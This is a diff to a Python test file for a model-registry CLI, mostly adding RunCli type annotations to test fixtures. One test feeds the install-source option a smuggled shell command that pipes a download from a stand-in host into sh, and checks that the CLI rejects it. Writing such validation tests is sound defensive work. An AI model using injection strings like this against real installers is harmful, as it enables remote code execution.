@@ -18,7 +18,7 @@ from modelreg.export import export, read_catalog
 from modelreg.scaffold import PUBLISH_WORKFLOW, SERVER_DIR, WORKFLOW
 from modelreg.site.sources import gather
 from tests.artifacts.stores import S3Server, start_s3
-from tests.conftest import git
+from tests.conftest import RunCli, git
 from tests.deploy.deployrepo import kubernetes_problems
 
 INSTALL = "git+https://github.com/acme/modelreg@v0.1.0"
@@ -43,7 +43,7 @@ def lint_workflow(path: Path) -> None:
 
 def test_init_writes_linted_workflows_installing_from_the_given_source(
     tmp_path: Path,
-    run_cli,  # type: ignore[no-untyped-def]
+    run_cli: RunCli,
 ) -> None:
     out = run_cli("init", str(tmp_path / "reg"), "--install-from", INSTALL)
     assert out.code == 0, out.err
@@ -83,7 +83,7 @@ def test_init_without_a_known_source_writes_a_workflow_that_stops_with_a_message
 
 def test_init_refuses_an_install_source_that_is_not_a_requirement(
     tmp_path: Path,
-    run_cli,  # type: ignore[no-untyped-def]
+    run_cli: RunCli,
 ) -> None:
     out = run_cli("init", str(tmp_path / "reg"), "--install-from", 'x"; curl evil | sh')
     assert out.code == 2 and "not a pip requirement" in out.err
@@ -109,7 +109,7 @@ def test_init_writes_valid_kubernetes_files_for_the_server(tmp_path: Path) -> No
 
 def test_events_of_a_merge_as_cloudevents(
     tmp_path: Path,
-    run_cli,  # type: ignore[no-untyped-def]
+    run_cli: RunCli,
 ) -> None:
     reg = Registry.init(tmp_path / "reg")
     reg.create_model("churn", name="Churn", framework="xgboost")
